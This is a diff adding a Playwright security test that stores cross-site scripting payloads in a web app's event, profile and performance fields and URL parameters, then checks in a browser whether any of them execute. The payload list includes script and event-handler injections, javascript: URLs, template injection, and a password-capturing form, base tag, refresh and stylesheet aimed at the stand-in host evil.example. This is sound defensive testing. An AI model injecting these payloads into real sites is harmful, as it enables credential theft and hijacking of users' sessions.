@@ -1,0 +1,100 @@
+import { chromium, type Page } from 'playwright-core';
+import { browserArguments, findBrowser } from '../../harness/browser.ts';
+import type { Tally } from '../attack.ts';
+import { eventBody, pieceBody, profileBody, type Cast } from '../cast.ts';
+import { field } from '../client.ts';
+
+const mark = 'window.__mallory=1';
+const payloads = [
+  `<script>${mark}</script>`,
+  `<img src=x onerror="${mark}" data-mallory>`,
+  `"><svg onload="${mark}" data-mallory>`,
+  `'><iframe srcdoc="<script>parent.__mallory=1</script>" data-mallory></iframe>`,
+  `</script><script>${mark}</script>`,
+  `javascript:${mark}`,
+  `<a href="javascript:${mark}" data-mallory>x</a>`,
+  `{{constructor.constructor('${mark}')()}}`,
+  '<form action="http://evil.example/" data-mallory><input name=password></form>',
+  '<base href="http://evil.example/" data-mallory>',
+  '<meta http-equiv=refresh content="0;url=http://evil.example/" data-mallory>',
+  '\u202e<b data-mallory>\u0000\u0007',
+  '<style data-mallory>*{display:none}</style>',
+  '<link rel=stylesheet href=http://evil.example/x.css data-mallory>',
+];
+
+const stored = async ({ mallory, coordinator }: Cast): Promise<string[]> => {
+  const pages: string[] = [];
+  for (const payload of payloads) {
+    const address = { street: payload, city: payload.slice(0, 100), state: 'California', zip: '95112' };
+    const made = await coordinator.put('/event', eventBody({ name: payload, description: payload, address }));
+    const event = field(made, '_id');
+    const names = { firstName: payload.slice(0, 100), lastName: payload.slice(0, 100), school: payload };
+    const profile = field(await mallory.put('/profile', profileBody(mallory.id, names)), '_id');
+    const piece = { title: payload, composer: payload, instrument: payload.slice(0, 100), notes: payload };
+    await mallory.put('/performance', pieceBody({ ...piece, profile, event, user: mallory.id }));
+    pages.push(`/events/manage/${event}`, `/events/edit/${event}`);
+  }
+  return pages;
+};
+
+const inAddress = (): string[] =>
+  payloads.flatMap((payload) => {
+    const text = encodeURIComponent(payload);
+    return [`/?success=${text}`, `/?error=${text}`, `/login?error=${text}&success=${text}`];
+  });
+
+// What a page shows of an attack: that it ran, that it left an element, that it reached out.
+const lookAt = async (page: Page, url: string): Promise<string[]> => {
+  const signs: string[] = [];
+  const onDialog = (): void => void signs.push('a dialog');
+  const onRequest = (request: { url(): string }): void => {
+    if (!/^(data|blob):/.test(request.url()) && new URL(request.url()).origin !== new URL(url).origin)
+      signs.push(`a request to ${request.url()}`);
+  };
+  page.on('dialog', onDialog);
+  page.on('request', onRequest);
+  await page.goto(url);
+  await page.waitForLoadState('networkidle');
+  const ran = await page.evaluate(() => '__mallory' in window);
+  if (ran) signs.push('a script ran');
+  if ((await page.locator('[data-mallory]').count()) > 0) signs.push('an element was made');
+  page.off('dialog', onDialog);
+  page.off('request', onRequest);
+  return signs;
+};
+
+// The same texts where nobody takes care of them.
+const careless = async (page: Page, tally: Tally): Promise<void> => {
+  await page.setContent(`<h1>${payloads[1] ?? ''}</h1>`);
+  await page
+    .waitForFunction(() => '__mallory' in window, undefined, { timeout: 5000 })
+    .catch(() => undefined);
+  const ran = await page.evaluate(() => '__mallory' in window);
+  tally.control('a careless page runs it, and that is noticed', ran);
+};
+
+/** Group 8: markup and scripts in every stored text and in the address, opened in a browser as the coordinator. */
+export const payloadCorpus = async (cast: Cast, tally: Tally): Promise<void> => {
+  const { url, coordinator } = cast;
+  const pages = await stored(cast);
+  const { executablePath, env } = await findBrowser();
+  const options = { executablePath, env: { ...process.env, ...env } as Record<string, string> };
+  const browser = await chromium.launch({ ...options, args: browserArguments });
+  try {
+    const [name = '', value = ''] = coordinator.cookie.split(/=(.*)/s);
+    const context = await browser.newContext();
+    await context.addCookies([{ name, value, url }]);
+    const page = await context.newPage();
+    const visits = [...pages, '/events', '/events/manage', '/profiles', ...inAddress()];
+    let shown = 0;
+    for (const path of visits) {
+      const signs = await lookAt(page, `${url}${path}`);
+      tally.attack(`${path.slice(0, 80)}: ${signs.join(', ')}`, signs.length > 0);
+      if ((await page.content()).includes('&lt;')) shown += 1;
+    }
+    tally.control('the texts were on screen as texts', shown > payloads.length);
+    await careless(await browser.newPage(), tally);
+  } finally {
+    await browser.close();
+  }
+};
